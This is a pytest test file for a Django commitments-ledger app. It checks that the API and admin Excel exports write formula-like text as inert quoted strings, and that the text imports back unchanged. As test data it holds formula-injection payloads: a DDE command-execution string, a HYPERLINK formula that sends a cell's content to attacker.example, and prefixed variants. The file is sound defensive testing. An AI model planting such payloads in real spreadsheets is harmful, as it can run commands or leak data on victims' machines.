"""Text that looks like a formula leaves the ledger as text (spreadsheet formula injection)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token

from commitments.models import Commitment
from commitments.services.excel import commitments_import_xlsx
from tests.factories import CommitmentFactory, ProgressUpdateFactory, UnitFactory
from tests.outputs.test_excel import without_ids

pytestmark = pytest.mark.django_db

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://attacker.example/?d="&A1,"点此查看")'
PREFIXED = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=2+2"]


def _booby_trapped_ledger() -> None:
    unit = UnitFactory(name="市教育局")
    CommitmentFactory(title=LINK, lead_unit=unit)
    with_note = CommitmentFactory(title="普通事项", lead_unit=unit)
    ProgressUpdateFactory(commitment=with_note, text=CALC)
    for text in PREFIXED:
        CommitmentFactory(
            title=text, lead_unit=unit, status=Commitment.Status.CANCELLED, status_reason=text
        )


def _assert_inert(content: bytes) -> None:
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    # then: no formula anywhere
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    # and: every cell that starts like a formula is a string with Excel's quote prefix
    book = load_workbook(io.BytesIO(content))
    risky = [
        cell
        for row in book.worksheets[0].iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r"
    ]
    assert {c.value for c in risky} >= {LINK, CALC, *PREFIXED}
    for c in risky:
        assert c.data_type == "s", c.value
        assert c.quotePrefix, c.value


def test_api_export_writes_formula_like_text_as_text(client, supervisor):
    # given: a title and a progress note written by someone hoping for the office's Excel
    _booby_trapped_ledger()
    token, _ = Token.objects.get_or_create(user=supervisor)

    # when
    response = client.get("/api/v1/commitments/export/", HTTP_AUTHORIZATION=f"Token {token.key}")

    # then
    assert response.status_code == 200
    _assert_inert(response.content)


def test_admin_export_writes_formula_like_text_as_text(client, superuser):
    _booby_trapped_ledger()
    client.force_login(superuser)

    response = client.get("/admin/commitments/commitment/export-xlsx/")

    assert response.status_code == 200
    _assert_inert(response.content)


def test_an_exported_sheet_imports_back_the_original_text(client, superuser):
    # given: the exported 台账 of the booby-trapped ledger, and the ledger emptied
    _booby_trapped_ledger()
    client.force_login(superuser)
    content = client.get("/admin/commitments/commitment/export-xlsx/").content
    Commitment.objects.all().delete()

    # when: imported as new rows (the IDs name commitments that are gone)
    result = commitments_import_xlsx(source=without_ids(content))

    # then: every text is back as it was written, no quote added (the import trims the
    # leading TAB or CR of a cell, as it trims any cell)
    written = {text.strip() for text in PREFIXED}
    assert result.ok, [str(e) for e in result.errors]
    assert set(Commitment.objects.values_list("title", flat=True)) == {LINK, "普通事项", *written}
    reasons = Commitment.objects.filter(status=Commitment.Status.CANCELLED).values_list(
        "status_reason", flat=True
    )
    assert set(reasons) == written
